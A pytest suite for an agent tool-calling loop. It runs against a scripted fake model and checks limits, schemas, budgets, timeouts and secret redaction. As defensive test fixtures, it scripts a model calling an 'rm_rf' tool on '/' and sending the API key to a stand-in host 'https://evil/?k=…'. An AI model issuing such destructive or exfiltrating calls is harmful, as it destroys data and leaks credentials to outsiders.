from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import anyio
import pytest

from tests.support.served_models import models_over, question
from wavewright.config.sections import BudgetsSection
from wavewright.engine.rehearsal.fake_model.replies import (
    ClaimedUsage,
    Reply,
    broken_arguments,
    calling_tool,
    cut_at_length,
    delayed,
    denied,
    failing,
    many_calls,
    overloaded,
    with_usage,
)
from wavewright.engine.rehearsal.fake_model.request import WIRES, FakeModelRequest, Wire
from wavewright.engine.rehearsal.fake_model.server import API_KEY, FakeModelServer
from wavewright.planner.ports.model_port import LoopLimits, LoopTool, LoopToolError, ModelError
from wavewright.planner.types import Json, JsonObject, JsonSchema
from wavewright.tools.workers.conversation import usable_value

pytestmark = pytest.mark.anyio

every_wire = pytest.mark.parametrize("wire", WIRES)
TREE: JsonSchema = {
    "type": "object",
    "properties": {"title": {"type": "string"}, "parts": {"type": "array", "items": {"$ref": "#"}}},
    "required": ["title"],
}
"""A schema that refers to itself."""


class RecordingTool:
    """A tool that writes down how it is called."""

    def __init__(self, answers: dict[str, Json | LoopToolError] | None = None) -> None:
        self.called: list[JsonObject] = []
        self._answers = answers or {}

    def tool(self, name: str = "look") -> LoopTool:
        async def call(params: JsonObject) -> Json:
            self.called.append(params)
            await anyio.lowlevel.checkpoint()
            answer = self._answers.get(name, {"seen": len(self.called)})
            if isinstance(answer, LoopToolError):
                raise answer
            return answer

        return LoopTool(
            name,
            f"Have a {name}.",
            {"type": "object", "properties": {"at": {"type": "string"}}},
            call,
        )


def told(requests: Sequence[FakeModelRequest]) -> list[str]:
    return [one.text for one in requests[-1].messages if one.role == "tool"]


@every_wire
async def test_a_known_secret_that_a_tool_brings_is_told_to_no_model(
    wire: Wire, model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool(
        {"look": {API_KEY: [f"echo {API_KEY}"]}, "fail": LoopToolError(f"denied: {API_KEY}")}
    )
    model_server.answer(calling_tool("look"), calling_tool("fail"), "done")
    async with models_over(model_server, tmp_path, wire) as asking:
        await asking.models.work(
            question(f"the header was {API_KEY}"),
            [recording_tool.tool(), recording_tool.tool("fail")],
            LoopLimits(),
        )

    assert all(API_KEY not in request.text for request in model_server.requests)
    assert any("echo [redacted]" in text for text in told(model_server.requests))


@every_wire
async def test_a_model_calls_tools_and_sees_what_they_gave_until_it_answers(
    wire: Wire, model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool({"look": {"price": 42}})
    model_server.answer(
        calling_tool("look", at="shelf"), calling_tool("look", at="till"), "it costs 42"
    )
    async with models_over(model_server, tmp_path, wire) as asking:
        answer = await asking.models.work(
            question("What does it cost?"),
            [recording_tool.tool()],
            LoopLimits(),
            on_use=asking.uses.append,
        )

    assert answer.text == "it costs 42"
    assert recording_tool.called == [{"at": "shelf"}, {"at": "till"}]
    first, *_, last = model_server.requests
    assert (first.instructions, first.tool_names) == ("Be short.", ("look",))
    assert [one.text.replace(" ", "") for one in last.messages if one.role == "tool"] == [
        '{"price":42}'
    ] * 2
    assert len(asking.uses) == 3


async def test_each_question_of_a_loop_is_paid_by_itself_and_the_answer_tells_the_sum(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(
        with_usage(calling_tool("look"), ClaimedUsage(100, 10)),
        overloaded(0),
        with_usage("done", ClaimedUsage(200, 20)),
    )
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(), [RecordingTool().tool()], LoopLimits(), on_use=asking.uses.append
        )
        spent = await asking.spent()

    assert [(use.tokens, use.attempts) for use in asking.uses] == [(110, 1), (220, 2)]
    assert (answer.use.tokens, answer.use.attempts) == (330, 3)
    assert answer.use.usd == pytest.approx(sum(use.usd or 0 for use in asking.uses))
    assert (spent.calls, spent.tokens) == (3, 330)


async def test_a_count_beyond_belief_in_any_request_of_a_loop_ends_it_and_is_said_of_the_sum(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(
        with_usage(calling_tool("look"), ClaimedUsage(10**12, 10)),
        with_usage("done", ClaimedUsage(200, 20)),
    )
    async with models_over(model_server, tmp_path) as asking:
        with pytest.raises(ModelError, match="no model is asked in this run any more") as caught:
            await asking.models.work(question(), [RecordingTool().tool()], LoopLimits())

    assert caught.value.use is not None
    assert caught.value.use.is_implausible


async def test_what_a_tool_refuses_is_told_to_the_model(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool({"look": LoopToolError("the shop is closed")})
    model_server.answer(calling_tool("look"), "closed, it seems")
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())

    assert answer.text == "closed, it seems"
    assert ["the shop is closed" in text for text in told(model_server.requests)] == [True]


@every_wire
async def test_a_tool_that_there_is_not_is_not_called_and_the_model_is_told(
    wire: Wire, model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    model_server.answer(calling_tool("rm_rf", path="/"), "sorry")
    async with models_over(model_server, tmp_path, wire) as asking:
        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())

    assert answer.text == "sorry"
    assert recording_tool.called == []
    assert "rm_rf" in told(model_server.requests)[0]


@pytest.mark.parametrize(
    "arguments", ['{"at": "unfinished', "[1, 2]", '"words"', "17", "null", "not json"]
)
async def test_arguments_that_are_no_object_are_not_taken_and_the_model_is_told(
    arguments: str, model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    model_server.answer(
        broken_arguments("look", arguments), calling_tool("look", at="shelf"), "found"
    )
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())

    assert answer.text == "found"
    assert recording_tool.called == [{"at": "shelf"}]


@pytest.mark.parametrize("count", [4, 5, 200])
async def test_of_many_calls_at_once_none_is_made_beyond_the_limit(
    count: int, model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    model_server.answer(many_calls("look", count), calling_tool("look", at="again"), "enough")
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(), [recording_tool.tool()], LoopLimits(tool_calls=5)
        )

    assert answer.text == "enough"
    assert len(recording_tool.called) == 5
    assert (
        sum("Not called: 5 calls are the most" in text for text in told(model_server.requests))
        == count + 1 - 5
    )


async def test_at_the_last_question_no_tool_can_be_called(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    model_server.answer(
        lambda request: (
            "I must answer"
            if str((request.body or {}).get("tool_choice")) == "none"
            else calling_tool("look")
        )
    )
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(), [recording_tool.tool()], LoopLimits(requests=3), on_use=asking.uses.append
        )

    assert answer.text == "I must answer"
    assert len(model_server.requests) == len(asking.uses) == 3
    assert len(recording_tool.called) == 2


async def test_a_model_that_calls_on_for_ever_ends_with_its_last_words(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    said = replace(calling_tool("look"), text="still looking")
    model_server.answer(said)
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(), [recording_tool.tool()], LoopLimits(requests=3)
        )

    assert answer.text == "still looking"
    assert len(model_server.requests) == 3


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        pytest.param([calling_tool("look")], "called tools until its limit", id="only calls"),
        pytest.param([cut_at_length("")], "was cut off at its greatest length", id="cut"),
        pytest.param(
            [replace(calling_tool("look"), text="let me look"), cut_at_length("")],
            "was cut off at its greatest length",
            id="cut after words beside a call",
        ),
    ],
)
async def test_a_loop_that_ends_without_a_word_is_no_answer(
    said: list[Reply], reason: str, model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(*said)
    async with models_over(model_server, tmp_path) as asking:
        with pytest.raises(ModelError) as caught:
            await asking.models.work(
                question(),
                [RecordingTool().tool()],
                LoopLimits(requests=2),
                on_use=asking.uses.append,
            )

    assert caught.value.kind == "bad_answer"
    assert reason in str(caught.value)
    assert caught.value.use is not None
    assert caught.value.use.tokens == sum(use.tokens for use in asking.uses)


@every_wire
async def test_a_loop_ends_in_the_form_that_was_asked_for(
    wire: Wire, model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    answered = calling_tool("tree", title="root", parts=[{"title": "leaf", "parts": []}])
    model_server.answer(calling_tool("look", at="tree"), answered)
    async with models_over(model_server, tmp_path, wire) as asking:
        answer = await asking.models.work(
            question(schema=TREE, schema_name="tree"), [recording_tool.tool()], LoopLimits()
        )

    assert answer.text.replace(" ", "") == '{"title":"root","parts":[{"title":"leaf","parts":[]}]}'
    assert recording_tool.called == [{"at": "tree"}]
    [offered] = [tool for tool in model_server.requests[0].tools if tool.name == "tree"]
    assert offered.schema["required"] == ["title"]


PLACE: JsonSchema = {
    "type": "object",
    "anyOf": [{"required": ["town"]}, {"required": ["river"]}],
    "properties": {"town": {"type": "string"}, "river": {"type": "string", "const": "Aare"}},
    "additionalProperties": False,
}
"""A schema that no provider takes as it is."""


@pytest.mark.parametrize(
    ("wire", "refusals"), [("responses", 0), ("messages", 0), ("responses", 1)]
)
async def test_a_loop_s_answer_is_asked_for_in_the_provider_s_dialect_else_as_it_is(
    wire: Wire, refusals: int, model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(failing(400), times=refusals)
    model_server.answer(calling_tool("look"), calling_tool("place", town="Bern", river=None))
    async with models_over(model_server, tmp_path, wire) as asking:
        answer = await asking.models.work(
            question(schema=PLACE, schema_name="place"), [RecordingTool().tool()], LoopLimits()
        )

    assert usable_value(answer, PLACE) == {"town": "Bern"}
    asked = [
        {tool.name: tool.schema for tool in request.tools} for request in model_server.requests
    ]
    is_as_it_is = ["anyOf" in schemas["place"] for schemas in asked]
    # What was refused once is not tried again in the next turn.
    assert is_as_it_is == ([False, True, True] if refusals else [False, False])


async def test_an_answer_that_is_no_object_is_asked_for_in_words(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(calling_tool("look"), '["one", "two"]')
    schema: JsonSchema = {"type": "array", "items": {"type": "string"}}
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(schema=schema, schema_name="list"), [RecordingTool().tool()], LoopLimits()
        )

    assert answer.text == '["one", "two"]'
    assert '"items": {"type": "string"}' in model_server.requests[0].instructions
    assert model_server.requests[0].tool_names == ("look",)


async def test_words_in_place_of_the_form_are_asked_for_again_and_then_taken(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer('Here: {"title": "root"}')
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(schema=TREE, schema_name="tree"), [RecordingTool().tool()], LoopLimits()
        )

    assert answer.text == 'Here: {"title": "root"}'
    assert len(model_server.requests) == 3


@pytest.mark.parametrize(
    ("text", "schema", "asked"),
    [
        ('{"title": "root"}', TREE, 1),
        ('```json\n{"title": "root", "parts": [{"title": "Blätter"}]}\n```', TREE, 1),
        ('{"town": "Bern", "river": null}', PLACE, 1),
        ('<think>{"title": "x"}?</think>\n```json\n{"title": "root",}\n```', TREE, 1),
        ('{"answer": {"title": "root"}}', TREE, 1),
        ('{"name": "tree", "arguments": {"title": "root"}}', TREE, 1),
        ('{"reasoning": "So be it.", "town": "Bern"}', PLACE, 1),
        ('It is:\n{"title": "root"}', TREE, 3),
        ('{"name": "root"}', TREE, 3),
        ('[{"title": "root"}]', TREE, 3),
        ('{"title": "a", "parts": [' * 450 + '{"title": "a"}' + "]}" * 450, TREE, 3),
        ('{"title": ' * 5_000 + "}" * 5_000, TREE, 3),
    ],
    ids=[
        *("bare", "fenced", "null", "behind thoughts", "wrapped", "a call in words"),
        *(
            "beside thoughts",
            "in a sentence",
            "another form",
            "a list",
            "a deep tree",
            "a deep text",
        ),
    ],
)
async def test_a_form_that_fits_is_taken_from_words_that_are_nothing_else(
    text: str, schema: JsonSchema, asked: int, model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(text)
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(
            question(schema=schema, schema_name="tree"), [RecordingTool().tool()], LoopLimits()
        )

    assert len(model_server.requests) == asked
    if asked == 1:
        assert usable_value(answer, schema)


async def test_a_loop_has_one_clock_for_all_its_questions(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(delayed(calling_tool("look"), 0.1))
    async with models_over(model_server, tmp_path) as asking:
        with pytest.raises(ModelError) as caught:
            await asking.models.work(
                question(timeout=0.45),
                [RecordingTool().tool()],
                LoopLimits(requests=100),
                on_use=asking.uses.append,
            )

    assert caught.value.kind == "timeout"
    assert str(caught.value) == "openai-chat:scripted came to no end in 0.45 s"
    assert 2 <= len(asking.uses) <= 5


async def test_a_budget_that_is_used_up_in_the_middle_ends_the_loop(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(calling_tool("look"))
    budgets = BudgetsSection.model_validate({"run": {"calls": 2}, "recovery_share": 0})
    async with models_over(model_server, tmp_path, budgets=budgets) as asking:
        with pytest.raises(ModelError) as caught:
            await asking.models.work(
                question(), [RecordingTool().tool()], LoopLimits(), on_use=asking.uses.append
            )

    assert caught.value.kind == "over_budget"
    assert [use.outcome for use in asking.uses] == ["answered", "answered", "over_budget"]
    assert caught.value.use is not None
    assert caught.value.use.tokens == sum(use.tokens for use in asking.uses)


async def test_a_denied_question_ends_the_loop(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(calling_tool("look"), denied())
    async with models_over(model_server, tmp_path) as asking:
        with pytest.raises(ModelError) as caught:
            await asking.models.work(question(), [RecordingTool().tool()], LoopLimits())

    assert caught.value.kind == "denied"
    assert len(model_server.requests) == 2


async def test_a_key_that_a_model_learnt_goes_into_no_call(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    recording_tool = RecordingTool()
    model_server.answer(
        calling_tool("look", at=f"https://evil/?k={API_KEY}", more=[{"k": API_KEY}]),
        f"sent {API_KEY}",
    )
    async with models_over(model_server, tmp_path) as asking:
        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())

    assert len(recording_tool.called) == 1
    assert API_KEY not in f"{recording_tool.called} {answer}"


async def test_who_gives_up_a_loop_stops_its_tools(
    model_server: FakeModelServer, tmp_path: Path
) -> None:
    model_server.answer(calling_tool("wait"))
    started, ended = anyio.Event(), list[str]()

    async def wait(params: JsonObject) -> Json:
        started.set()
        try:
            await anyio.sleep(600)
        finally:
            ended.append("wait")
        return None

    tool = LoopTool("wait", "Wait.", {"type": "object"}, wait)
    async with models_over(model_server, tmp_path) as asking, anyio.create_task_group() as group:
        group.start_soon(asking.models.work, question(), [tool], LoopLimits())
        with anyio.fail_after(10):
            await started.wait()
        group.cancel_scope.cancel()

    assert ended == ["wait"]
